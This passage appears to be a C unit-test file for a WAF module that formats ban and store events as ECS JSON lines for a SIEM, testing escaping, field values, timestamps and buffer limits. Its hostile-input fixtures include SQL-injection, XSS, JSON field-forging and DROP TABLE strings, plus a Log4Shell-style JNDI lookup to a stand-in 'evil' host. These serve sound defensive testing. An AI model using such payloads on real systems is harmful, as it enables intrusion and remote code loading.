/* test_event.c - SIEM event lines: every kind is one line of strict JSON
 * with the expected ECS keys and values; hostile strings (quotes,
 * backslashes, control bytes, invalid UTF-8, forged fields, 10 KB) never
 * break the line, add a key or change event.action; a short buffer gives
 * -1 and an empty string; the escaper on its own.
 *
 * The lines are checked by a small strict JSON parser (json_leaves.c) that
 * flattens each line into leaves, "event.action" = "ban", "rule.id[]"...
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <check.h>

#include "rlw_event.h"
#include "rlw_subject.h"
#include "unit_suites.h"

#include "json_leaves.h"

/* ---- fixtures ---- */

#define NOW 1795948209032LL /* 2026-11-29T10:30:09.032Z */

static rlw_addr_t v4_client(void)
{
    rlw_addr_t a;

    memset(&a, 0, sizeof(a));
    ck_assert_int_eq(rlw_addr_parse("192.0.2.7", &a), 0);
    return a;
}

static rlw_addr_t v6_group(void)
{
    rlw_addr_t h, a;

    memset(&h, 0, sizeof(h));
    ck_assert_int_eq(rlw_addr_parse("2001:db8:1:2:aa:bb:cc:dd", &h), 0);
    rlw_addr_client(&h, 64, &a);
    return a;
}

static const uint32_t rules[] = {942100, 942110, 941100, 920350, 949110};
static rlw_addr_t fx_client;
static rlw_ban_state_t fx_ban;

/* A full event of the given kind with harmless strings. */
static rlw_event_t fixture(rlw_event_kind_t kind)
{
    rlw_event_t ev;

    memset(&ev, 0, sizeof(ev));
    fx_client = v4_client();
    fx_ban.start_ms = NOW;
    fx_ban.until_ms = NOW + 600000;
    fx_ban.strikes = 2;
    fx_ban.count = 20;
    ev.kind = kind;
    ev.now_ms = NOW;
    ev.observer = "web1.example.net";
    ev.store = "shm";
    if (kind == RLW_EV_STORE_DEGRADED || kind == RLW_EV_STORE_RECOVERED) {
        ev.store = "memcached";
        ev.reason = kind == RLW_EV_STORE_DEGRADED ? "SERVER HAS FAILED" : NULL;
        return ev;
    }
    ev.client = &fx_client;
    ev.count = 20;
    ev.threshold = 20;
    ev.window_ms = 60000;
    ev.ban_class = "normal";
    ev.rule_ids = rules;
    ev.nrules = (int)(sizeof(rules) / sizeof(rules[0]));
    ev.uri = "/index.php?id=1%27%20OR%201=1";
    ev.user_agent = "sqlmap/1.7";
    if (kind == RLW_EV_BAN || kind == RLW_EV_UNBAN) {
        ev.ban = &fx_ban;
        ev.ban_ms = 600000;
        ev.decided_by = "web2.example.net";
    }
    if (kind == RLW_EV_NEAR_THRESHOLD)
        ev.count = 16;
    if (kind == RLW_EV_UNBAN) {
        ev.reason = "expired";
        ev.now_ms = NOW + 601000;
        ev.rule_ids = NULL;
        ev.nrules = 0;
        ev.uri = ev.user_agent = NULL;
    }
    return ev;
}

static char line[RLW_EVENT_LINE_MAX * 4];

/* Formats ev into line and parses it; fails the test on any error. */
static int format_and_parse(const rlw_event_t *ev)
{
    int n = rlw_event_format(ev, line, sizeof(line));

    ck_assert_msg(n > 0, "format failed");
    ck_assert_uint_eq((size_t)n, strlen(line));
    ck_assert_msg(jl_parse_line(line, (size_t)n) == 0, "invalid JSON (%s): %s",
                  jl_doc.err, line);
    return n;
}

/* ---- every kind ---- */

typedef struct kind_case {
    rlw_event_kind_t kind;
    const char *action, *ekind, *keys;
} kind_case_t;

#define COMMON_EVENT                                                           \
    "@timestamp event.kind event.category[] event.type[] event.action "        \
    "event.module event.dataset"

static const kind_case_t kinds[] = {
    {RLW_EV_BAN, "ban", "alert",
     COMMON_EVENT
     " event.start event.end event.duration source.ip "
     "source.address observer.hostname observer.vendor observer.type "
     "rule.id[] rule.category[] url.original user_agent.original message "
     "rlw.client rlw.count rlw.threshold rlw.window_s rlw.strike rlw.class "
     "rlw.node rlw.store rlw.dry_run"},
    {RLW_EV_UNBAN, "unban", "event",
     COMMON_EVENT
     " event.reason event.start event.end event.duration "
     "source.ip source.address observer.hostname observer.vendor "
     "observer.type message rlw.client rlw.strike rlw.class rlw.node "
     "rlw.store rlw.dry_run"},
    {RLW_EV_EXEMPT_THRESHOLD, "exempt_threshold", "alert",
     COMMON_EVENT
     " source.ip source.address observer.hostname "
     "observer.vendor observer.type rule.id[] rule.category[] url.original "
     "user_agent.original message rlw.client rlw.count rlw.threshold "
     "rlw.window_s rlw.class rlw.store rlw.dry_run"},
    {RLW_EV_NEAR_THRESHOLD, "near_threshold", "alert",
     COMMON_EVENT
     " source.ip source.address observer.hostname "
     "observer.vendor observer.type rule.id[] rule.category[] url.original "
     "user_agent.original message rlw.client rlw.count rlw.threshold "
     "rlw.window_s rlw.class rlw.store rlw.dry_run"},
    {RLW_EV_STORE_DEGRADED, "store_degraded", "event",
     COMMON_EVENT " event.reason observer.hostname observer.vendor "
                  "observer.type message rlw.store rlw.dry_run"},
    {RLW_EV_STORE_RECOVERED, "store_recovered", "event",
     COMMON_EVENT " observer.hostname observer.vendor observer.type message "
                  "rlw.store rlw.dry_run"},
};

START_TEST(every_kind_is_valid_json)
{
    const kind_case_t *c = &kinds[_i];
    rlw_event_t ev = fixture(c->kind);
    char keys[2048];

    format_and_parse(&ev);
    jl_keyset(keys, sizeof(keys));
    ck_assert_str_eq(keys, c->keys);
    ck_assert_str_eq(jl_str("event.action"), c->action);
    ck_assert_str_eq(jl_str("event.kind"), c->ekind);
    ck_assert_str_eq(jl_str("event.module"), "ratelimit_waf");
    ck_assert_str_eq(jl_str("event.dataset"), "ratelimit_waf.events");
    ck_assert_str_eq(jl_str("observer.vendor"), "mod_ratelimit_waf");
    ck_assert_str_eq(jl_str("observer.type"), "waf");
    ck_assert_str_eq(jl_str("observer.hostname"), "web1.example.net");
    ck_assert_int_eq(jl_kind_of("rlw.dry_run"), 'f');
    ck_assert_str_eq(rlw_event_action(c->kind), c->action);
    ck_assert_int_eq(jl_kind_of("message"), 's');
    ck_assert_uint_gt(strlen(jl_str("message")), 10);
}
END_TEST

START_TEST(ban_values)
{
    rlw_event_t ev = fixture(RLW_EV_BAN);

    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("@timestamp"), "2026-11-29T10:30:09.032Z");
    ck_assert_str_eq(jl_elem("event.category[]", 0), "intrusion_detection");
    ck_assert_str_eq(jl_elem("event.category[]", 1), "network");
    ck_assert_str_eq(jl_elem("event.type[]", 0), "denied");
    ck_assert_str_eq(jl_str("event.start"), "2026-11-29T10:30:09.032Z");
    ck_assert_str_eq(jl_str("event.end"), "2026-11-29T10:40:09.032Z");
    ck_assert_str_eq(jl_num("event.duration"), "600000000000");
    ck_assert_str_eq(jl_str("source.ip"), "192.0.2.7");
    ck_assert_str_eq(jl_str("source.address"), "192.0.2.7");
    ck_assert_str_eq(jl_str("rlw.client"), "192.0.2.7");
    ck_assert_int_eq(jl_count("rule.id[]"), 5);
    ck_assert_str_eq(jl_elem("rule.id[]", 0), "942100");
    ck_assert_str_eq(jl_elem("rule.id[]", 4), "949110");
    ck_assert_int_eq(jl_count("rule.category[]"), 4); /* sqli once */
    ck_assert_str_eq(jl_elem("rule.category[]", 0), "sqli");
    ck_assert_str_eq(jl_elem("rule.category[]", 1), "xss");
    ck_assert_str_eq(jl_elem("rule.category[]", 2), "protocol-enforcement");
    ck_assert_str_eq(jl_elem("rule.category[]", 3), "other");
    ck_assert_str_eq(jl_str("url.original"), "/index.php?id=1%27%20OR%201=1");
    ck_assert_str_eq(jl_str("user_agent.original"), "sqlmap/1.7");
    ck_assert_str_eq(jl_num("rlw.count"), "20");
    ck_assert_str_eq(jl_num("rlw.threshold"), "20");
    ck_assert_str_eq(jl_num("rlw.window_s"), "60");
    ck_assert_str_eq(jl_num("rlw.strike"), "2");
    ck_assert_str_eq(jl_str("rlw.class"), "normal");
    ck_assert_str_eq(jl_str("rlw.node"), "web2.example.net");
    ck_assert_str_eq(jl_str("rlw.store"), "shm");
    ck_assert_str_eq(jl_str("message"),
                     "Banned 192.0.2.7 for 10m after 20 attacks in 1m "
                     "(strike 2)");
}
END_TEST

/* A network's ban: no source.ip (a network is no address), its CIDR in
 * source.address (the bridge's prefix) and rlw.network, rlw.kind names
 * the kind; the message says it is a network. */
START_TEST(ban_network)
{
    rlw_event_t ev = fixture(RLW_EV_BAN);
    rlw_addr_t h, n;

    ck_assert_int_eq(rlw_addr_parse("198.51.100.77", &h), 0);
    ck_assert_int_eq(rlw_subject_net(&h, 24, 48, 0, &n), 0);
    ev.client = &n;
    format_and_parse(&ev);
    ck_assert_int_eq(jl_kind_of("source.ip"), '?');
    ck_assert_str_eq(jl_str("source.address"), "198.51.100.0/24");
    ck_assert_int_eq(jl_kind_of("rlw.client"), '?');
    ck_assert_str_eq(jl_str("rlw.network"), "198.51.100.0/24");
    ck_assert_str_eq(jl_str("rlw.kind"), "network");
    ck_assert_str_eq(jl_str("message"),
                     "Banned network 198.51.100.0/24 for 10m after 20 "
                     "attacks in 1m (strike 2)");
    ev = fixture(RLW_EV_NEAR_THRESHOLD);
    ck_assert_int_eq(rlw_addr_parse("2001:db8:aa:bb::1", &h), 0);
    ck_assert_int_eq(rlw_subject_net(&h, 24, 48, 0, &n), 0);
    ev.client = &n;
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("source.address"), "2001:db8:aa::/48");
    ck_assert_str_eq(jl_str("rlw.kind"), "network");
    ck_assert_str_eq(jl_str("message"),
                     "Network 2001:db8:aa::/48 is near the threshold (16 of "
                     "20 attacks in 1m)");
}
END_TEST

/* A request key's ban: no source at all (a key has no address: the
 * bridge adds nothing), rlw.kind key, rlw.key.name and rlw.key.hash (never
 * a value: the event only ever holds the hash). */
START_TEST(ban_key)
{
    rlw_event_t ev = fixture(RLW_EV_BAN);
    unsigned char hash[16];
    rlw_addr_t k;

    memset(hash, 0x0f, sizeof(hash));
    ck_assert_int_eq(rlw_subject_key(0, hash, 0, &k), 0);
    ev.client = &k;
    ev.key_name = "api";
    format_and_parse(&ev);
    ck_assert_int_eq(jl_kind_of("source.ip"), '?');
    ck_assert_int_eq(jl_kind_of("source.address"), '?');
    ck_assert_int_eq(jl_kind_of("rlw.client"), '?');
    ck_assert_str_eq(jl_str("rlw.kind"), "key");
    ck_assert_str_eq(jl_str("rlw.key.name"), "api");
    ck_assert_str_eq(jl_str("rlw.key.hash"),
                     "0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f");
    ck_assert_str_eq(jl_str("message"),
                     "Banned key api key#0:0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f "
                     "for 10m after 20 attacks in 1m (strike 2)");
    ev = fixture(RLW_EV_NEAR_THRESHOLD);
    ev.client = &k;
    ev.key_name = NULL; /* unknown name: an empty one, the hash still */
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("rlw.key.name"), "");
    ck_assert_str_eq(jl_str("rlw.key.hash"),
                     "0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f");
    ck_assert_str_eq(jl_str("message"),
                     "Request key ? key#0:0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f is "
                     "near the threshold (16 of 20 attacks in 1m)");
}
END_TEST

START_TEST(ban_ipv6_group_dry_run_manual)
{
    rlw_event_t ev = fixture(RLW_EV_BAN);
    rlw_addr_t g = v6_group();

    ev.client = &g;
    ev.dry_run = 1;
    ev.ban = NULL; /* times from now_ms and ban_ms */
    ev.ban_ms = 1500;
    ev.window_ms = 2500;
    ev.user = "alice";
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("source.ip"), "2001:db8:1:2::");
    ck_assert_str_eq(jl_str("source.address"), "2001:db8:1:2::/64");
    ck_assert_str_eq(jl_str("rlw.client"), "2001:db8:1:2::/64");
    ck_assert_str_eq(jl_elem("event.type[]", 0), "allowed");
    ck_assert_int_eq(jl_kind_of("rlw.dry_run"), 't');
    ck_assert_str_eq(jl_str("event.end"), "2026-11-29T10:30:10.532Z");
    ck_assert_str_eq(jl_num("event.duration"), "1500000000");
    ck_assert_str_eq(jl_num("rlw.window_s"), "2.5");
    ck_assert_str_eq(jl_str("user.name"), "alice");
    ck_assert_ptr_null(jl_get("rlw.strike"));
    ck_assert_str_eq(jl_str("message"), "Would ban (dry run) 2001:db8:1:2::/64 "
                                        "for 1500ms (manual)");
    ev.user = NULL; /* a manual ban without an authenticated user */
    ev.reason = "manual";
    ev.dry_run = 0;
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("event.reason"), "manual");
    ck_assert_str_eq(jl_str("message"), "Banned 2001:db8:1:2::/64 for 1500ms "
                                        "(manual)");
}
END_TEST

START_TEST(unban_values)
{
    rlw_event_t ev = fixture(RLW_EV_UNBAN);

    format_and_parse(&ev); /* expired: ends at until, 1 s before now */
    ck_assert_str_eq(jl_str("event.reason"), "expired");
    ck_assert_str_eq(jl_str("event.end"), "2026-11-29T10:40:09.032Z");
    ck_assert_str_eq(jl_num("event.duration"), "600000000000");
    ck_assert_str_eq(jl_elem("event.type[]", 0), "end");
    ck_assert_str_eq(jl_str("message"), "Ban of 192.0.2.7 expired");

    ev.reason = "manual"; /* lifted 100 s in: ends now */
    ev.user = "bob";
    ev.now_ms = NOW + 100000;
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("event.end"), "2026-11-29T10:31:49.032Z");
    ck_assert_str_eq(jl_num("event.duration"), "100000000000");
    ck_assert_str_eq(jl_str("user.name"), "bob");
    ck_assert_str_eq(jl_str("message"), "Ban of 192.0.2.7 lifted by hand");
}
END_TEST

START_TEST(store_values)
{
    rlw_event_t ev = fixture(RLW_EV_STORE_DEGRADED);

    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("event.reason"), "SERVER HAS FAILED");
    ck_assert_str_eq(jl_elem("event.category[]", 0), "database");
    ck_assert_str_eq(jl_elem("event.type[]", 0), "error");
    ck_assert_str_eq(jl_str("message"), "Store memcached degraded");
    ck_assert_ptr_null(jl_get("source.ip"));
    ev.kind = RLW_EV_STORE_RECOVERED;
    ev.reason = NULL;
    ev.observer = NULL;
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("message"), "Store memcached recovered");
    ck_assert_ptr_null(jl_get("observer.hostname"));
    ck_assert_str_eq(jl_str("observer.vendor"), "mod_ratelimit_waf");
}
END_TEST

START_TEST(timestamps_at_the_edges)
{
    rlw_event_t ev = fixture(RLW_EV_STORE_RECOVERED);

    ev.now_ms = 0;
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("@timestamp"), "1970-01-01T00:00:00.000Z");
    ev.now_ms = -1;
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("@timestamp"), "1970-01-01T00:00:00.000Z");
    ev.now_ms = 951782400999LL; /* leap day */
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("@timestamp"), "2000-02-29T00:00:00.999Z");
    ev.now_ms = INT64_MAX;
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("@timestamp"), "9999-12-31T23:59:59.999Z");

    ev = fixture(RLW_EV_BAN);
    fx_ban.start_ms = 0;
    fx_ban.until_ms = INT64_MAX;
    format_and_parse(&ev);
    ck_assert_str_eq(jl_num("event.duration"), "9223372036854775807");
    ck_assert_str_eq(jl_str("event.end"), "9999-12-31T23:59:59.999Z");
    ev.ban = NULL;
    ev.ban_ms = INT64_MAX; /* now + ban_ms overflows: no negative time */
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("event.end"), jl_str("event.start"));

    /* Found by t/fuzz/fuzz_event.c: a ban starting at INT64_MIN made
     * end - start overflow (UBSan; a negative duration otherwise). It
     * reads as a ban from the epoch to its end. */
    ev = fixture(RLW_EV_UNBAN);
    fx_ban.start_ms = INT64_MIN;
    fx_ban.until_ms = 1000;
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("event.start"), "1970-01-01T00:00:00.000Z");
    ck_assert_str_eq(jl_str("event.end"), "1970-01-01T00:00:01.000Z");
    ck_assert_str_eq(jl_num("event.duration"), "1000000000");
    ev = fixture(RLW_EV_BAN);
    fx_ban.start_ms = INT64_MIN;
    fx_ban.until_ms = INT64_MIN + 1;
    format_and_parse(&ev);
    ck_assert_str_eq(jl_num("event.duration"), "0");
    ck_assert_str_eq(jl_str("event.end"), "1970-01-01T00:00:00.000Z");
}
END_TEST

/* Ban times from a hostile record: start and end at the int64 extremes
 * (end - start would overflow) give a duration in range, never negative. */
START_TEST(ban_times_at_the_extremes)
{
    static const struct {
        int64_t start, end;
        const char *duration;
    } cases[] = {
        {INT64_MIN, INT64_MAX, "9223372036854775807"},
        {INT64_MIN, INT64_MIN, "0"},
        {INT64_MIN, 0, "0"},
        {INT64_MIN, 1, "1000000"},
        {INT64_MAX, INT64_MIN, "0"},
        {INT64_MAX, INT64_MAX, "0"},
        {-1, INT64_MAX, "9223372036854775807"},
    };
    int i;

    for (i = 0; i < (int)(sizeof(cases) / sizeof(cases[0])); i++) {
        rlw_event_t ev = fixture(RLW_EV_BAN);

        fx_ban.start_ms = cases[i].start;
        fx_ban.until_ms = cases[i].end;
        format_and_parse(&ev);
        ck_assert_str_eq(jl_num("event.duration"), cases[i].duration);
        ck_assert_int_eq(jl_kind_of("message"), 's');
        /* An unban lifted now (NOW) of a ban that "started" at INT64_MIN. */
        ev = fixture(RLW_EV_UNBAN);
        fx_ban.start_ms = cases[i].start;
        fx_ban.until_ms = cases[i].end;
        ev.reason = "manual";
        format_and_parse(&ev);
        ck_assert_str_ne(jl_num("event.duration"), "");
        ck_assert_int_ne(jl_num("event.duration")[0], '-');
    }
}
END_TEST

/* ---- hostile strings ---- */

static const char *const hostile[] = {
    "\",\"event\":{\"action\":\"unban",
    "\"}}\n{\"event\":{\"action\":\"unban\"}}",
    "\\",
    "\\\"",
    "a\\\\\"b",
    "line\nbreak\rcarriage",
    ("\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0c\x0d\x0e\x0f\x10"
     "\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\x7f"),
    "\xff\xfe\xc0\xaf\xe0\x80\xaf\xed\xa0\x80\xf4\x90\x80\x80\xf8\x88\x80",
    "trunc\xe2\x82",
    "\xe2\x80\xa8\xe2\x80\xa9</script><script>alert(1)</script>",
    "\xf0\x9f\x98\x80 caf\xc3\xa9 \xe6\x97\xa5\xe6\x9c\xac",
    "\",\"rlw\":{\"dry_run\":true},\"x\":\"",
    "'; DROP TABLE users; --",
    "${jndi:ldap://evil/a}",
    "",
};

#define N(a) ((int)(sizeof(a) / sizeof((a)[0])))

START_TEST(hostile_strings_stay_inside)
{
    const char *h = hostile[_i];
    rlw_event_t ev = fixture(RLW_EV_BAN);
    char good_keys[2048], keys[2048];
    int good_leaves, n;

    /* The benign line with every optional string present. */
    ev.user = "alice";
    ev.reason = "threshold";
    format_and_parse(&ev);
    jl_keyset(good_keys, sizeof(good_keys));
    good_leaves = jl_doc.n;

    ev.uri = ev.user_agent = ev.user = ev.reason = h;
    ev.observer = ev.decided_by = ev.store = ev.ban_class = h;
    n = format_and_parse(&ev);
    ck_assert_int_le(n, RLW_EVENT_LINE_MAX - 1);
    jl_keyset(keys, sizeof(keys));
    ck_assert_str_eq(keys, good_keys); /* no key more, none less */
    ck_assert_int_eq(jl_doc.n, good_leaves);
    ck_assert_str_eq(jl_str("event.action"), "ban");
    ck_assert_int_eq(jl_kind_of("rlw.dry_run"), 'f');
    ck_assert_int_eq(jl_count("event.action"), 1);
}
END_TEST

/* Valid UTF-8, control bytes included, decodes back to itself; invalid
 * bytes come back as U+FFFD. */
START_TEST(hostile_round_trip)
{
    static const char *const valid[] = {
        "\",\"event\":{\"action\":\"unban",
        "line\nbreak\rcr\ttab\x01\x1f\x7f",
        "\xe2\x80\xa8\xe2\x80\xa9 \xf0\x9f\x98\x80 caf\xc3\xa9",
        "back\\slash \"quoted\" /slash/",
    };
    rlw_event_t ev = fixture(RLW_EV_NEAR_THRESHOLD);
    int i;

    for (i = 0; i < N(valid); i++) {
        ev.uri = valid[i];
        format_and_parse(&ev);
        ck_assert_str_eq(jl_str("url.original"), valid[i]);
        /* U+2028/2029 and DEL never appear raw in the line. */
        ck_assert_ptr_null(strstr(line, "\xe2\x80\xa8"));
        ck_assert_ptr_null(strstr(line, "\xe2\x80\xa9"));
        ck_assert_ptr_null(strchr(line, 0x7f));
    }
    ev.user_agent = "a\xff"
                    "b\xc0\xaf"
                    "c";
    format_and_parse(&ev);
    ck_assert_str_eq(jl_str("user_agent.original"), "a\xef\xbf\xbd"
                                                    "b\xef\xbf\xbd\xef\xbf\xbd"
                                                    "c");
}
END_TEST

/* 10 KB strings are cut to their caps at a character boundary; the line
 * stays below RLW_EVENT_LINE_MAX. */
START_TEST(long_strings_are_capped)
{
    static char big[10 * 1024 + 1];
    static const char *const fill[] = {"a", "\"", "\x01", "\xff",
                                       "\xe2\x82\xac"};
    const char *f = fill[_i];
    size_t flen = strlen(f), i;
    rlw_event_t ev = fixture(RLW_EV_BAN);
    int n;

    for (i = 0; i + flen <= sizeof(big) - 1; i += flen)
        memcpy(big + i, f, flen);
    big[i] = '\0';
    ev.uri = ev.user_agent = ev.user = ev.reason = big;
    ev.observer = ev.decided_by = ev.store = ev.ban_class = big;
    n = format_and_parse(&ev);
    ck_assert_int_le(n, RLW_EVENT_LINE_MAX - 1);
    ck_assert_str_eq(jl_str("event.action"), "ban");
    ck_assert_int_eq(jl_kind_of("url.original"), 's');
    ck_assert_uint_gt(strlen(jl_str("url.original")), 0);
    /* Decoded, the cut text is a prefix of the input made of whole
     * characters (or whole U+FFFD for the invalid fill). */
    if (f[0] != '\xff') {
        const leaf_t *u = jl_get("url.original");

        ck_assert_uint_eq(u->vlen % flen, 0);
        ck_assert_int_eq(memcmp(u->value, big, u->vlen), 0);
    }
}
END_TEST

/* Everything at its longest and worst still fits in RLW_EVENT_LINE_MAX. */
START_TEST(worst_case_fits_line_max)
{
    static char bad[10 * 1024 + 1];
    static const uint32_t many[] = {4294967295u, 911000, 913000, 920000,
                                    921000,      922000, 930000, 931000,
                                    932000,      933000};
    static char buf[RLW_EVENT_LINE_MAX];
    rlw_event_t ev;
    rlw_addr_t g;
    rlw_ban_state_t b = {0, INT64_MAX, UINT32_MAX, UINT32_MAX};
    int kind, n;

    memset(bad, 0xff, sizeof(bad) - 1);
    memset(&g, 0, sizeof(g));
    ck_assert_int_eq(rlw_addr_parse("ffff:ffff:ffff:ffff:ffff:ffff:ffff:fff"
                                    "f",
                                    &g),
                     0);
    g.prefix = 127;
    g.bytes[15] = 0xfe;
    for (kind = RLW_EV_BAN; kind <= RLW_EV_STORE_RECOVERED; kind++) {
        memset(&ev, 0, sizeof(ev));
        ev.kind = (rlw_event_kind_t)kind;
        ev.now_ms = -1234567;
        ev.observer = ev.decided_by = ev.ban_class = ev.reason = bad;
        ev.user = ev.store = ev.uri = ev.user_agent = bad;
        ev.client = &g;
        ev.count = ev.threshold = UINT32_MAX;
        ev.window_ms = INT64_MAX - 1;
        ev.ban = &b;
        ev.ban_ms = INT64_MAX;
        ev.rule_ids = many;
        ev.nrules = N(many);
        ev.dry_run = 1;
        n = rlw_event_format(&ev, buf, sizeof(buf));
        ck_assert_msg(n > 0, "kind %d does not fit", kind);
        ck_assert_int_eq(jl_parse_line(buf, (size_t)n), 0);
        ck_assert_int_eq(jl_count("rule.id[]"), RLW_EVENT_RULES_MAX);
    }
}
END_TEST

/* ---- short buffers ---- */

START_TEST(short_buffer_gives_minus_one)
{
    static char buf[RLW_EVENT_LINE_MAX + 16], canary[RLW_EVENT_LINE_MAX + 16];
    rlw_event_t ev = fixture(RLW_EV_BAN);
    int full, n;
    size_t len;

    ev.user_agent = "\"\x01\xff";
    full = rlw_event_format(&ev, line, sizeof(line));
    ck_assert_int_gt(full, 0);
    ck_assert_uint_lt((size_t)full, sizeof(buf));
    memset(canary, 'X', sizeof(canary));
    for (len = 0; len <= (size_t)full; len++) {
        memset(buf, 'X', sizeof(buf));
        n = rlw_event_format(&ev, buf, len);
        ck_assert_msg(n == -1, "len %lu gave %d", (unsigned long)len, n);
        if (len > 0)
            ck_assert_int_eq(buf[0], '\0');
        /* nothing written past len */
        ck_assert_int_eq(memcmp(buf + len, canary, sizeof(buf) - len), 0);
    }
    memset(buf, 'X', sizeof(buf));
    ck_assert_int_eq(rlw_event_format(&ev, buf, (size_t)full + 1), full);
    ck_assert_str_eq(buf, line);
    ck_assert_int_eq(rlw_event_format(&ev, NULL, 100), -1);
}
END_TEST

START_TEST(bad_arguments)
{
    char buf[512];
    rlw_event_t ev = fixture(RLW_EV_STORE_RECOVERED);

    memset(buf, 'X', sizeof(buf));
    ck_assert_int_eq(rlw_event_format(NULL, buf, sizeof(buf)), -1);
    ck_assert_int_eq(buf[0], '\0');
    ev.kind = (rlw_event_kind_t)42;
    buf[0] = 'X';
    ck_assert_int_eq(rlw_event_format(&ev, buf, sizeof(buf)), -1);
    ck_assert_int_eq(buf[0], '\0');
    ck_assert_ptr_null(rlw_event_action((rlw_event_kind_t)42));

    /* rule_ids NULL or nrules negative: no rule object. */
    ev = fixture(RLW_EV_BAN);
    ev.nrules = -3;
    format_and_parse(&ev);
    ck_assert_ptr_null(jl_get("rule.id[]"));
    ev.nrules = 3;
    ev.rule_ids = NULL;
    format_and_parse(&ev);
    ck_assert_ptr_null(jl_get("rule.id[]"));
}
END_TEST

/* ---- the escaper ---- */

typedef struct esc_case {
    const char *in;
    size_t inlen;
    const char *out;
} esc_case_t;

#define E(s, o)                                                                \
    {                                                                          \
        s, sizeof(s) - 1, o                                                    \
    }

static const esc_case_t esc_cases[] = {
    E("", ""),
    E("plain text 123", "plain text 123"),
    E("a\"b\\c/d", "a\\\"b\\\\c/d"),
    E("\n\r\t\b\f", "\\u000a\\u000d\\u0009\\u0008\\u000c"),
    E("\x01\x1f\x7f ~", "\\u0001\\u001f\\u007f ~"),
    E("nul\0inside", "nul\\u0000inside"),
    E("caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80",
      "caf\xc3\xa9 \xe2\x82\xac \xf0\x9f\x98\x80"),
    E("\xe2\x80\xa8|\xe2\x80\xa9|\xe2\x80\xaa", "\\u2028|\\u2029|\xe2\x80\xaa"),
    E("\xc0\xaf", "\\ufffd\\ufffd"),                       /* overlong '/' */
    E("\xe0\x80\xaf", "\\ufffd\\ufffd\\ufffd"),            /* overlong */
    E("\xed\xa0\x80", "\\ufffd\\ufffd\\ufffd"),            /* surrogate */
    E("\xf4\x90\x80\x80", "\\ufffd\\ufffd\\ufffd\\ufffd"), /* > U+10FFFF */
    E("\xf0\x80\x80\x80", "\\ufffd\\ufffd\\ufffd\\ufffd"), /* overlong */
    E("\xe2\x82", "\\ufffd\\ufffd"),                       /* truncated */
    E("\x80x", "\\ufffdx"), /* lone continuation */
    E("\xf8\x88\x80\x80\x80", "\\ufffd\\ufffd\\ufffd\\ufffd\\ufffd"),
    E("\xff\xfe", "\\ufffd\\ufffd"),
    E("\xef\xbf\xbf\xf4\x8f\xbf\xbf", "\xef\xbf\xbf\xf4\x8f\xbf\xbf"),
};

START_TEST(escape_cases)
{
    const esc_case_t *c = &esc_cases[_i];
    char out[256];
    size_t n;

    n = rlw_json_escape(c->in, c->inlen, out, sizeof(out));
    ck_assert_str_eq(out, c->out);
    ck_assert_uint_eq(n, strlen(c->out));
    /* Measuring only. */
    ck_assert_uint_eq(rlw_json_escape(c->in, c->inlen, NULL, 0), n);
}
END_TEST

/* A short output holds whole pieces only, always NUL-terminated, and the
 * result still tells the full length. */
START_TEST(escape_cuts_whole_pieces)
{
    static const char in[] = "ab\"\xe2\x82\xac\x01z";
    static const char full[] = "ab\\\"\xe2\x82\xac\\u0001z";
    static const char *const expect[] = {"",
                                         "",
                                         "a",
                                         "ab",
                                         "ab",
                                         "ab\\\"",
                                         "ab\\\"",
                                         "ab\\\"",
                                         "ab\\\"\xe2\x82\xac",
                                         "ab\\\"\xe2\x82\xac",
                                         "ab\\\"\xe2\x82\xac",
                                         "ab\\\"\xe2\x82\xac",
                                         "ab\\\"\xe2\x82\xac",
                                         "ab\\\"\xe2\x82\xac",
                                         "ab\\\"\xe2\x82\xac\\u0001",
                                         full};
    char out[32];
    size_t outlen;

    for (outlen = 0; outlen < sizeof(expect) / sizeof(expect[0]); outlen++) {
        memset(out, 'X', sizeof(out));
        ck_assert_uint_eq(rlw_json_escape(in, sizeof(in) - 1, out, outlen),
                          strlen(full));
        if (outlen == 0) {
            ck_assert_int_eq(out[0], 'X'); /* nothing written */
            continue;
        }
        ck_assert_msg(strcmp(out, expect[outlen]) == 0, "outlen %lu: \"%s\"",
                      (unsigned long)outlen, out);
        ck_assert_int_eq(out[outlen], 'X');
    }
    ck_assert_uint_eq(rlw_json_escape(NULL, 5, out, sizeof(out)), 0);
    ck_assert_str_eq(out, "");
}
END_TEST

typedef struct cat_case {
    uint32_t id;
    const char *cat;
} cat_case_t;

static const cat_case_t cats[] = {
    {913100, "scanner-detection"},
    {920350, "protocol-enforcement"},
    {921110, "protocol-attack"},
    {930100, "lfi"},
    {931100, "rfi"},
    {932100, "rce"},
    {933100, "php"},
    {934100, "nodejs"},
    {941100, "xss"},
    {942100, "sqli"},
    {943100, "session-fixation"},
    {944100, "java"},
    {911100, "method-enforcement"},
    {922110, "multipart-attack"},
    {949110, "other"},
    {980130, "other"},
    {0, "other"},
    {942, "other"},
    {4294967295u, "other"},
    {9420000, "other"},
};

START_TEST(rule_categories)
{
    ck_assert_str_eq(rlw_event_rule_category(cats[_i].id), cats[_i].cat);
}
END_TEST

Suite *event_suite(void)
{
    Suite *s = suite_create("event");
    TCase *tc = tcase_create("format");

    tcase_add_loop_test(tc, every_kind_is_valid_json, 0, N(kinds));
    tcase_add_test(tc, ban_values);
    tcase_add_test(tc, ban_ipv6_group_dry_run_manual);
    tcase_add_test(tc, ban_network);
    tcase_add_test(tc, ban_key);
    tcase_add_test(tc, unban_values);
